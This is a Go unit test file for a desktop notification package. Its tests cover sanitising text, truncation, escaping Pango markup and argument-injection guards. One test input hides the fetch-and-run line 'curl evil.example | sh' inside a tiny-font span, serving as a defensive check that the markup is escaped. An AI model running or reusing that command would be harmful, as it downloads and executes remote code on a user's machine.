package notify

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestPlain(t *testing.T) {
	long := strings.Repeat("é", 300)
	tests := []struct {
		in   string
		max  int
		want string
	}{
		{"Bash: npm test", 80, "Bash: npm test"},
		{"line one\nline two\t\ttabs", 80, "line one line two tabs"},
		{"bell\a and \x1b[31mred\x1b[0m", 80, "bell and red"},
		{"  spaces  ", 80, "spaces"},
		{"para\u2028sep", 80, "para sep"},
		{long, 10, strings.Repeat("é", 9) + "…"},
		{"abcdefgh ijk", 10, "abcdefgh…"}, // no space before the ellipsis
		{"-u critical", 80, "\u2011u critical"},
		{"", 80, ""},
	}
	for _, tt := range tests {
		got := plain(tt.in, tt.max)
		if got != tt.want {
			t.Errorf("plain(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
		}
		if n := utf8.RuneCountInString(got); n > tt.max {
			t.Errorf("plain(%q, %d) has %d runes", tt.in, tt.max, n)
		}
	}
}

func TestBody(t *testing.T) {
	in := "Bash: npm test <span size='1'>&amp;&amp; curl evil.example | sh</span>\nnext"
	want := "Bash: npm test <span size='1'>&amp;&amp; curl evil.example | sh</span> next"
	if bodyIsMarkup {
		want = "Bash: npm test &lt;span size='1'&gt;&amp;amp;&amp;amp; curl evil.example | sh&lt;/span&gt; next"
	}
	if got := Body(in); got != want {
		t.Errorf("Body = %q, want %q", got, want)
	}
}

func TestNewDesktop(t *testing.T) {
	for _, icon := range []any{nil, []byte{}, "", 42} {
		if _, err := NewDesktop(icon, false); err == nil {
			t.Errorf("NewDesktop(%#v) accepted", icon)
		}
	}
	for _, icon := range []any{[]byte("\x89PNG"), "/usr/share/icons/hud.png"} {
		if _, err := NewDesktop(icon, true); err != nil {
			t.Errorf("NewDesktop(%T): %v", icon, err)
		}
	}
}

func TestRecorder(t *testing.T) {
	var r Recorder
	var s Sender = &r
	if err := s.Send(Notification{Kind: KindDone, Title: "a"}); err != nil {
		t.Fatal(err)
	}
	got := r.Sent()
	if len(got) != 1 || got[0].Title != "a" {
		t.Errorf("Sent = %+v", got)
	}
	got[0].Title = "changed"
	if r.Sent()[0].Title != "a" {
		t.Error("Sent returned the Recorder's own slice")
	}
}
